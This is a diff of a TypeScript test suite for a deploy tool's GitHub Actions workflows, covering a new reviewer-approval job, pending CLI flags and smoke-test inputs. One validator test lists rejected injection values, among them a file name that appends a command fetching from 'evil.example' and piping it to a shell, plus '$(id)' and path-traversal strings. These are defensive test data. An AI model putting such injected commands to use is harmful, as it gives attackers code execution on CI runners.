@@ -95,6 +95,15 @@ const VARIABLE_SOURCES: Record<string, string | null> = {
 
 const WORKFLOW_FILES = ["ecr-push.yml", "deploy.yml", "rollback.yml", "promote.yml"];
 
+/**
+ * Issue #27's CLI contract, which the workflows are written against while the driver gains it: the commands and
+ * flags the CLI does not have yet. The test below fails once the CLI has one of them: remove it from here then.
+ */
+const PENDING_CLI: Readonly<Record<string, { readonly newCommand: boolean; readonly flags: readonly string[] }>> = {
+    approve: { newCommand: true, flags: ["--stack", "--reason"] },
+    promote: { newCommand: false, flags: ["--smoke-test", "--smoke-test-timeout"] },
+};
+
 // ---------------------------------------------------------------------------
 // Running a step's script.
 
@@ -206,10 +215,17 @@ describe("workflows: stack outputs, variables and driver commands", () => {
 
     it("use only papyrus-deploy commands and the flags each command takes, through this repository's own bin", () => {
         // kills: a workflow passing a flag of another command (the CLI refuses it since flags are per command)
-        const commands = new Set([...USAGE.matchAll(/^ {2}papyrus-deploy (\w+)/gm)].map((m) => m[1]));
-        assert.deepStrictEqual([...commands].sort(), ["deploy", "history", "promote", "reconcile", "rollback", "status", "unlock", "up", "verify"]);
+        const cli = new Set([...USAGE.matchAll(/^ {2}papyrus-deploy (\w+)/gm)].map((m) => m[1]));
+        assert.deepStrictEqual([...cli].sort(), ["deploy", "history", "promote", "reconcile", "rollback", "status", "unlock", "up", "verify"]);
+        const commands = new Set([...cli, ...Object.keys(PENDING_CLI)]);
         const flagsOf = (command: string) =>
-            new Set([...Object.keys(COMMANDS[command as keyof typeof COMMANDS].flags), ...Object.keys(COMMON_FLAGS)].map((f) => `--${f}`));
+            new Set(
+                [
+                    ...Object.keys(cli.has(command) ? COMMANDS[command as keyof typeof COMMANDS].flags : {}),
+                    ...Object.keys(COMMON_FLAGS),
+                    ...(PENDING_CLI[command]?.flags ?? []).map((f) => f.slice(2)),
+                ].map((f) => `--${f}`),
+            );
         const used: string[] = [];
         for (const file of WORKFLOW_FILES) {
             const { workflow } = readWorkflow(file);
@@ -237,7 +253,16 @@ describe("workflows: stack outputs, variables and driver commands", () => {
                 }
             }
         }
-        assert.deepStrictEqual([...new Set(used)].sort(), ["deploy", "history", "promote", "rollback", "verify"]);
+        assert.deepStrictEqual([...new Set(used)].sort(), ["approve", "deploy", "history", "promote", "rollback", "verify"]);
+    });
+
+    it("list as pending (issue #27) only commands and flags the CLI does not have yet", () => {
+        const cli = new Set([...USAGE.matchAll(/^ {2}papyrus-deploy (\w+)/gm)].map((m) => m[1]));
+        for (const [command, { newCommand, flags }] of Object.entries(PENDING_CLI)) {
+            const has = cli.has(command) ? Object.keys(COMMANDS[command as keyof typeof COMMANDS].flags).map((f) => `--${f}`) : [];
+            const landed = newCommand && cli.has(command) ? [command] : flags.filter((flag) => has.includes(flag));
+            assert.deepStrictEqual(landed, [], `the CLI has ${landed.join(", ")} now: remove it from PENDING_CLI in test/ci/workflows.test.ts`);
+        }
     });
 
     it("pass inputs and expressions to scripts through env:, never inline in run:", () => {
@@ -468,10 +493,10 @@ for (const [file, command] of [
 ] as const) {
     describe(file, () => {
         const { workflow } = readWorkflow(file);
-        const job = onlyJob(workflow);
+        const job = workflow.jobs[command];
         const driverStep = stepIndex(
             job,
-            runs(new RegExp(`papyrus-deploy ${command === "rollback" ? '"\\$\\{args\\[@\\]\\}"' : "deploy"}`)),
+            runs(new RegExp(`args=\\(${command} [\\s\\S]*papyrus-deploy "\\$\\{args\\[@\\]\\}"`)),
             `running papyrus-deploy ${command}`,
         );
 
@@ -482,8 +507,12 @@ for (const [file, command] of [
             assert.deepStrictEqual(workflow.permissions, { "id-token": "write", contents: "read" });
         });
 
-        it("serializes changes to one stack across deploy and rollback", () => {
-            assert.deepStrictEqual((workflow as any).concurrency, { group: "papyrus-stack-${{ inputs.stack }}", "cancel-in-progress": false });
+        it("serializes changes to one stack across deploy, rollback and promote", () => {
+            const group = { group: "papyrus-stack-${{ inputs.stack }}", "cancel-in-progress": false };
+            // deploy.yml holds the stack's group in its deploy job only: its approve job may wait for a reviewer after the deploy ended.
+            assert.deepStrictEqual(command === "deploy" ? (job as any).concurrency : (workflow as any).concurrency, group);
+            assert.strictEqual(command === "deploy" ? (workflow as any).concurrency : (job as any).concurrency, undefined);
+            assert.deepStrictEqual((readWorkflow("promote.yml").workflow as any).concurrency, { ...group, group: "papyrus-stack-${{ inputs.to }}" });
         });
 
         it("assumes the deploy role from vars.DEPLOY_ROLE_ARN after installing Node deps and the Pulumi CLI", () => {
@@ -544,7 +573,7 @@ for (const [file, command] of [
 
 describe("deploy.yml", () => {
     const { workflow } = readWorkflow("deploy.yml");
-    const job = onlyJob(workflow);
+    const job = workflow.jobs.deploy;
 
     it("takes a required tag input", () => {
         assert.strictEqual(workflow.on.workflow_dispatch.inputs.tag.required, true);
@@ -617,7 +646,7 @@ describe("deploy.yml", () => {
 
         it("runs before the deploy, with the passphrase, the stack and the tag from the inputs", () => {
             // kills: a gate moved after the deploy, or fed another stack or tag than the deploy
-            assert.ok(gateIndex < stepIndex(job, runs(/papyrus-deploy deploy/), "deploying"), "the gate runs before the deploy");
+            assert.ok(gateIndex < stepIndex(job, (s) => s.id === "deploy", "deploying"), "the gate runs before the deploy");
             assert.deepStrictEqual(gate.env, {
                 STACK: "${{ inputs.stack }}",
                 TAG: "${{ inputs.tag }}",
@@ -687,10 +716,9 @@ describe("deploy.yml", () => {
         });
     });
 
-    it("passes the stack and tag to the driver exactly", () => {
-        const step = job.steps[stepIndex(job, runs(/papyrus-deploy deploy/), "deploying")];
-        const run = runStep(step.run!, { STACK: "dev", TAG: "v2.0.1" });
-        assert.deepStrictEqual(run.npxArgs, [
+    it("passes the stack and tag to the driver exactly, and with approval a wait that outlasts a reviewer (within the job's timeout)", () => {
+        const step = job.steps[stepIndex(job, (s) => s.id === "deploy", "deploying")];
+        const expected = [
             "--no-install",
             "papyrus-deploy",
             "deploy",
@@ -703,12 +731,19 @@ describe("deploy.yml", () => {
             "--evidence",
             "evidence/deploy.json",
             "--json",
-        ]);
+        ];
+        assert.deepStrictEqual(runStep(step.run!, { STACK: "dev", TAG: "v2.0.1", APPROVAL: "false" }).npxArgs, expected);
+        assert.deepStrictEqual(runStep(step.run!, { STACK: "dev", TAG: "v2.0.1", APPROVAL: "true" }).npxArgs, [...expected, "--wait-timeout", "45m"]);
+        assert.ok(parseDuration("45m")! < ((job as any)["timeout-minutes"] - 10) * 60_000, "the wait leaves the job time to verify and summarize");
         assert.deepStrictEqual(step.env, {
             STACK: "${{ inputs.stack }}",
             TAG: "${{ inputs.tag }}",
+            APPROVAL: "${{ inputs.approval }}",
             PULUMI_CONFIG_PASSPHRASE: "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
         });
+        const aborted = runStep(step.run!, { STACK: "dev", TAG: "v2.0.1", APPROVAL: "true" }, { npxExit: 14 });
+        assert.strictEqual(aborted.status, 14);
+        assert.match(aborted.stdout, /::error::ABORTED \(exit 14\): the rollout was rolled back on request at its PAUSE hook/);
     });
 
     it("refuses a tag the driver would refuse before touching AWS", () => {
@@ -752,6 +787,166 @@ describe("deploy.yml", () => {
         const missing = runStep(check.run!, { ...env, ROLE_ARN: "", TAG: "v1.2.3" });
         assert.strictEqual(missing.status, 2);
         assert.match(missing.stdout, /DEPLOY_ROLE_ARN \(pulumi stack output deployRoleArn\)/);
+    });
+});
+
+describe("deploy.yml's approve job (a reviewer continues a rollout paused at its PAUSE hook)", () => {
+    const { workflow } = readWorkflow("deploy.yml");
+    const deploy = workflow.jobs.deploy as Job & Record<string, any>;
+    const approve = workflow.jobs.approve as Job & Record<string, any>;
+    const approveStep = approve.steps[stepIndex(approve, (s) => s.id === "approve", "with id `approve`")];
+    const hasJq = spawnSync("jq", ["--version"]).status === 0;
+
+    it("runs only when asked, beside the deploy (no `needs`), in the environment <stack>-approval, with the stack's deploy role", () => {
+        const input = workflow.on.workflow_dispatch.inputs.approval;
+        assert.deepStrictEqual([input.type, input.required, input.default], ["boolean", false, false]);
+        assert.strictEqual(approve.if, "inputs.approval");
+        // kills: `needs: deploy`, which would start the approval only after the deploy stopped waiting for it
+        assert.strictEqual(approve.needs, undefined);
+        assert.strictEqual(approve.environment, "${{ inputs.stack }}-approval");
+        assert.deepStrictEqual(approve.permissions, { "id-token": "write", contents: "read", actions: "read" });
+        const credentials = approve.steps[stepIndex(approve, usesAction("aws-actions/configure-aws-credentials"), "configuring AWS credentials")];
+        assert.strictEqual(credentials.with?.["role-to-assume"], "${{ vars.DEPLOY_ROLE_ARN }}");
+        assert.ok(approve.steps.indexOf(credentials) < approve.steps.indexOf(approveStep));
+    });
+
+    it("does not hold the stack's concurrency group (a waiting approval never blocks the next deploy), and outlasts the deploy's wait", () => {
+        assert.strictEqual(approve.concurrency, undefined);
+        assert.strictEqual((workflow as any).concurrency, undefined);
+        assert.deepStrictEqual(deploy.concurrency, { group: "papyrus-stack-${{ inputs.stack }}", "cancel-in-progress": false });
+        assert.ok(approve["timeout-minutes"] >= deploy["timeout-minutes"], "the approval can answer for as long as the deploy runs");
+    });
+
+    it("follows the deploy job and step by the names they have, and records the approver in the reason", () => {
+        assert.strictEqual(approveStep.env?.DEPLOY_JOB, deploy.name as string);
+        assert.strictEqual(approveStep.env?.DEPLOY_STEP, deploy.steps[stepIndex(deploy, (s) => s.id === "deploy", "deploying")].name);
+        assert.strictEqual(approveStep.env?.APPROVAL_ENVIRONMENT, approve.environment);
+        assert.strictEqual(approveStep.env?.GH_TOKEN, "${{ github.token }}");
+        assert.strictEqual(approveStep.env?.PULUMI_CONFIG_PASSPHRASE, "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}");
+        const upload = approve.steps[stepIndex(approve, usesAction("actions/upload-artifact"), "uploading the approval's result")];
+        assert.strictEqual(upload.if, "always()");
+        assert.match(approveStep.run!, /--json > evidence\/approve-result\.json/);
+    });
+
+    /**
+     * Runs the step with a fake `gh` that answers the approvals and, call after call, the given states of the deploy job
+     * (the last one repeats), and a fake `npx` that answers `approve` with the given exit codes in turn.
+     */
+    function runApprove(
+        states: readonly object[],
+        approveExits: readonly number[],
+        approvals: object[] = [{ state: "approved", environments: [{ name: "prod-approval" }], user: { login: "dana" } }],
+    ) {
+        let calls: string[] = [];
+        const run = runStep(
+            approveStep.run!,
+            {
+                STACK: "prod",
+                APPROVAL_ENVIRONMENT: "prod-approval",
+                DEPLOY_JOB: "Deploy v3.0.0 to prod",
+                DEPLOY_STEP: "Deploy (papyrus-deploy deploy)",
+                STARTED_BY: "carol",
+                REPOSITORY: "acme/papyrus",
+                RUN_ID: "4242",
+                RUN_ATTEMPT: "1",
+                GH_TOKEN: "token",
+                POLL_SECONDS: "0",
+            },
+            {
+                prepare: (dir) => {
+                    states.forEach((state, i) =>
+                        fs.writeFileSync(path.join(dir, `jobs-${i}.json`), JSON.stringify({ jobs: [{ name: "Build", status: "completed" }, state] })),
+                    );
+                    fs.writeFileSync(path.join(dir, "approvals.json"), JSON.stringify(approvals));
+                    fs.writeFileSync(
+                        path.join(dir, ".bin", "gh"),
+                        [
+                            "#!/bin/bash",
+                            `echo "gh $*" >> "${dir}/.calls"`,
+                            `case "$2" in *"/approvals") cat "${dir}/approvals.json"; exit 0 ;; esac`,
+                            `n=$(cat "${dir}/.gh-n" 2>/dev/null || echo 0); echo $((n + 1)) > "${dir}/.gh-n"`,
+                            `[ -f "${dir}/jobs-$n.json" ] || n=${states.length - 1}`,
+                            `cat "${dir}/jobs-$n.json"`,
+                        ].join("\n") + "\n",
+                        { mode: 0o755 },
+                    );
+                    fs.writeFileSync(
+                        path.join(dir, ".bin", "npx"),
+                        [
+                            "#!/bin/bash",
+                            `echo "npx $3 $4 $5 $6 $7" >> "${dir}/.calls"`,
+                            `n=$(cat "${dir}/.npx-n" 2>/dev/null || echo 0); echo $((n + 1)) > "${dir}/.npx-n"`,
+                            `codes=(${approveExits.join(" ")})`,
+                            "echo '{\"fake\": true}'",
+                            'exit "${codes[$n]:-99}"',
+                        ].join("\n") + "\n",
+                        { mode: 0o755 },
+                    );
+                },
+            },
+        );
+        if (fs.existsSync(path.join(run.dir, ".calls"))) calls = fs.readFileSync(path.join(run.dir, ".calls"), "utf8").trimEnd().split("\n");
+        return { ...run, calls };
+    }
+    const deployJob = (status: string, step: string, conclusion: string | null = null) => ({
+        name: "Deploy v3.0.0 to prod",
+        status,
+        conclusion,
+        steps: [
+            { name: "Policy gate (pulumi preview --policy-pack policy)", status: step === "queued" ? "in_progress" : "completed" },
+            { name: "Deploy (papyrus-deploy deploy)", status: step },
+        ],
+    });
+    const APPROVE = "npx approve --stack prod --reason approved in GitHub by dana (run 4242)";
+
+    it("approved early: waits for the deploy step, asks again while nothing waits at the hook (15), and approves once, naming the reviewer", function () {
+        if (!hasJq) this.skip(); // jq is on every GitHub runner
+        const run = runApprove([deployJob("in_progress", "queued"), deployJob("in_progress", "in_progress")], [15, 15, 0]);
+        assert.strictEqual(run.status, 0, run.stdout);
+        assert.deepStrictEqual(
+            run.calls.filter((c) => c.startsWith("npx")),
+            [APPROVE, APPROVE, APPROVE],
+            "no approve before the deploy step runs; again after each 15; none after the 0",
+        );
+        assert.match(run.stdout, /approved: ECS continues the rollout on prod \(approved in GitHub by dana \(run 4242\)\)/);
+        assert.strictEqual(run.outputs["exit-code"], "0");
+    });
+
+    it("never approves once the deploy job has ended (or is not found): a notice, exit-code 15, and the job passes", function () {
+        if (!hasJq) this.skip();
+        for (const state of [deployJob("completed", "completed", "success"), { name: "Another job", status: "in_progress" }]) {
+            const run = runApprove([state], [0]);
+            assert.strictEqual(run.status, 0, run.stdout);
+            assert.deepStrictEqual(
+                run.calls.filter((c) => c.startsWith("npx")),
+                [],
+            );
+            assert.match(
+                run.stdout,
+                /::notice::the deploy job ended \((success|not found)\) before its rollout waited at a hook for this approval; nothing was approved/,
+            );
+            assert.strictEqual(run.outputs["exit-code"], "15");
+        }
+        // The deploy ends while the approval asks: it stops asking.
+        const ended = runApprove(
+            [deployJob("in_progress", "in_progress"), deployJob("in_progress", "in_progress"), deployJob("completed", "completed", "failure")],
+            [15, 15, 0],
+        );
+        assert.strictEqual(ended.status, 0, ended.stdout);
+        assert.strictEqual(ended.calls.filter((c) => c.startsWith("npx")).length, 2);
+        assert.match(ended.stdout, /the deploy job ended \(failure\)/);
+    });
+
+    it("fails with the driver's code when approve fails otherwise, and names the run's starter when the approvals say nothing", function () {
+        if (!hasJq) this.skip();
+        const run = runApprove([deployJob("in_progress", "in_progress")], [9], []);
+        assert.strictEqual(run.status, 9);
+        assert.match(run.stdout, /::error::papyrus-deploy approve failed with exit code 9; the deploy still waits at the hook/);
+        assert.deepStrictEqual(
+            run.calls.filter((c) => c.startsWith("npx")),
+            ["npx approve --stack prod --reason approved in GitHub by carol (run 4242)"],
+        );
+        assert.strictEqual(run.outputs["exit-code"], "9");
     });
 });
 
@@ -853,16 +1048,48 @@ describe("promote.yml", () => {
         // Reading history and state needs no passphrase: the source job gets no secret of the source.
         assert.doesNotMatch(JSON.stringify(source), /secrets\./);
         for (const s of promote.steps.filter((x) => x.env?.PULUMI_CONFIG_PASSPHRASE !== undefined)) {
-            assert.match(String(s.run), /pulumi preview|papyrus-deploy promote/, `step "${s.name}" does not need the passphrase`);
+            assert.match(String(s.run), /pulumi preview|args=\(promote /, `step "${s.name}" does not need the passphrase`);
         }
         const gate = stepIndex(promote, runs(/pulumi preview --stack "\$TO" --policy-pack policy\b/), "running the policy gate");
-        assert.ok(gate < stepIndex(promote, runs(/papyrus-deploy promote/), "promoting"), "the policy gate runs before the promote");
+        assert.ok(gate < stepIndex(promote, runs(/args=\(promote /), "promoting"), "the policy gate runs before the promote");
     });
 
     it("refuses the same stack on both sides, a bad version and a bad wait before any AWS call, as the driver would", () => {
         const check = step(source, /^Check the variables and inputs$/);
-        const env = { ROLE_ARN: "arn", PULUMI_BACKEND_URL: "s3://state", AWS_REGION: "eu-west-1", FROM: "dev", TO: "prod", VERSION: "", WAIT: "10m" };
+        const env = {
+            ROLE_ARN: "arn",
+            PULUMI_BACKEND_URL: "s3://state",
+            AWS_REGION: "eu-west-1",
+            FROM: "dev",
+            TO: "prod",
+            VERSION: "",
+            WAIT: "10m",
+            SMOKE_TEST: "scripts/smoke-test.sh",
+            SMOKE_TEST_TIMEOUT: "5m",
+        };
         assert.strictEqual(runStep(check.run!, env).status, 0);
+        // The smoke test is a script of this repository, named by a plain relative path: never a command line.
+        for (const [smokeTest, ok] of [
+            ["scripts/smoke-test.sh", true],
+            ["", true],
+            ["test/smoke/orders_api.sh", true],
+            ["scripts/smoke-test.sh; curl evil.example | sh", false],
+            ["$(id)", false],
+            ["../other/smoke.sh", false],
+            ["scripts/../../smoke.sh", false],
+            ["/usr/bin/true", false],
+            ["-rf", false],
+            ["node_modules/.bin/anything", false],
+            ["scripts/smoke test.sh", false],
+        ] as const) {
+            const run = runStep(check.run!, { ...env, SMOKE_TEST: smokeTest });
+            assert.strictEqual(run.status, ok ? 0 : 2, `smoke_test ${JSON.stringify(smokeTest)}: ${run.stdout}`);
+            if (!ok) assert.match(run.stdout, /::error::smoke_test '.*' is not the path of a script in this repository/);
+        }
+        for (const timeout of ["5m", "30s", "1m30s", "", "2h", "5 m"]) {
+            const shell = runStep(check.run!, { ...env, SMOKE_TEST_TIMEOUT: timeout }).status === 0;
+            assert.strictEqual(shell, parseDuration(timeout) !== undefined, `smoke_test_timeout ${JSON.stringify(timeout)}`);
+        }
         const same = runStep(check.run!, { ...env, TO: "dev" });
         assert.strictEqual(same.status, 2);
         assert.match(same.stdout, /::error::from and to are both 'dev'/);
@@ -979,9 +1206,11 @@ describe("promote.yml", () => {
             TO: "${{ inputs.to }}",
             VERSION: "${{ needs.source.outputs.version }}",
             WAIT: "${{ inputs.wait }}",
+            SMOKE_TEST: "${{ inputs.smoke_test }}",
+            SMOKE_TEST_TIMEOUT: "${{ inputs.smoke_test_timeout }}",
             PULUMI_CONFIG_PASSPHRASE: "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
         });
-        const env = { FROM: "dev", TO: "prod", VERSION: "4", WAIT: "10m" };
+        const env = { FROM: "dev", TO: "prod", VERSION: "4", WAIT: "10m", SMOKE_TEST: "", SMOKE_TEST_TIMEOUT: "5m" };
         const ok = runStep(run.run!, env);
         assert.strictEqual(ok.status, 0, ok.stdout);
         assert.deepStrictEqual(ok.npxArgs, [
@@ -1016,6 +1245,53 @@ describe("promote.yml", () => {
         const upload = stepIndex(promote, (s) => usesAction("actions/upload-artifact")(s) && s.with?.path === "evidence/", "uploading the evidence");
         assert.strictEqual(promote.steps[upload].if, "always()");
         assert.ok(upload > promote.steps.indexOf(run));
+    });
+
+    describe("the smoke test at prod's PAUSE hook (issue #27's `--smoke-test`)", () => {
+        const run = step(promote, /^Promote \(papyrus-deploy promote\)$/);
+        const env = { FROM: "dev", TO: "prod", VERSION: "4", WAIT: "10m", SMOKE_TEST: "scripts/smoke-test.sh", SMOKE_TEST_TIMEOUT: "5m" };
+        /** A checkout where git tracks `tracked` (and an untracked file beside it). */
+        const checkout = (tracked: string) => (dir: string) => {
+            fs.mkdirSync(path.join(dir, "scripts"), { recursive: true });
+            fs.writeFileSync(path.join(dir, tracked), "#!/bin/bash\nexit 0\n");
+            fs.writeFileSync(path.join(dir, "scripts", "untracked.sh"), "#!/bin/bash\nexit 0\n");
+            for (const args of [
+                ["init", "-q"],
+                ["add", tracked],
+            ])
+                assert.strictEqual(spawnSync("git", args, { cwd: dir }).status, 0);
+        };
+
+        it("defaults to the committed scripts/smoke-test.sh, with the driver's default timeout", () => {
+            const inputs = workflow.on.workflow_dispatch.inputs;
+            assert.deepStrictEqual([inputs.smoke_test.default, inputs.smoke_test.required], ["scripts/smoke-test.sh", false]);
+            assert.deepStrictEqual([inputs.smoke_test_timeout.default, parseDuration(inputs.smoke_test_timeout.default)], ["5m", 5 * 60_000]);
+            assert.ok(fs.existsSync(path.join(ROOT, inputs.smoke_test.default)), "the default smoke test is in the repository");
+        });
+
+        it("passes the committed script to `--smoke-test` (run by bash: no exec bit needed) with its timeout", () => {
+            const ok = runStep(run.run!, env, { prepare: checkout("scripts/smoke-test.sh") });
+            assert.strictEqual(ok.status, 0, ok.stdout);
+            assert.deepStrictEqual(ok.npxArgs!.slice(-4), ["--smoke-test", "bash ./scripts/smoke-test.sh", "--smoke-test-timeout", "5m"]);
+            assert.deepStrictEqual(ok.npxArgs!.slice(2, 3), ["promote"]);
+        });
+
+        it("refuses a script git does not track (one npm ci or a step wrote) before running the driver (exit 2)", () => {
+            for (const smokeTest of ["scripts/untracked.sh", "scripts/missing.sh"]) {
+                const refused = runStep(run.run!, { ...env, SMOKE_TEST: smokeTest }, { prepare: checkout("scripts/smoke-test.sh") });
+                assert.strictEqual(refused.status, 2, refused.stdout);
+                assert.match(refused.stdout, new RegExp(`::error::smoke_test '${smokeTest}' is not a file committed in this repository`));
+                assert.strictEqual(refused.npxArgs, undefined, "the driver did not run");
+                assert.strictEqual(refused.outputs["exit-code"], "2");
+            }
+        });
+
+        it("says a failed smoke test (or an abort) rolled prod back when the driver exits 14", () => {
+            const failed = runStep(run.run!, env, { npxExit: 14, prepare: checkout("scripts/smoke-test.sh") });
+            assert.strictEqual(failed.status, 14);
+            assert.match(failed.stdout, /::error::SMOKE TEST FAILED or ABORTED \(exit 14\): at the PAUSE hook the smoke test scripts\/smoke-test\.sh failed/);
+            assert.strictEqual(failed.outputs["exit-code"], "14");
+        });
     });
 });
 
@@ -1225,11 +1501,21 @@ describe("workflows and stack config agree on who may assume the roles", () => {
             );
         });
 
+        it(`${stack}: the deploy role trusts deploy.yml's approve job, in the environment \`${stack}-approval\``, () => {
+            const approval = readWorkflow("deploy.yml").workflow.jobs.approve.environment;
+            assert.strictEqual(approval, "${{ inputs.stack }}-approval");
+            assert.ok(
+                trusted(subjects().deploySubjects, `${repo()}:environment:${stack}-approval`),
+                `deploy.yml's approve job runs in the GitHub environment \`${stack}-approval\`; add it to papyrus:github.deploy.environments in Pulumi.${stack}.yaml`,
+            );
+        });
+
         it(`${stack}: the deploy role trusts no branch push or tag, so the environment's rules always apply`, () => {
             for (const sub of [
                 `${repo()}:ref:refs/heads/master`,
                 `${repo()}:ref:refs/tags/v1.2.3`,
                 `${repo()}:environment:${stack === "prod" ? "dev" : "prod"}`,
+                `${repo()}:environment:${stack === "prod" ? "dev" : "prod"}-approval`,
             ]) {
                 assert.ok(!trusted(subjects().deploySubjects, sub), `Pulumi.${stack}.yaml papyrus:github.deploy trusts ${sub}`);
             }
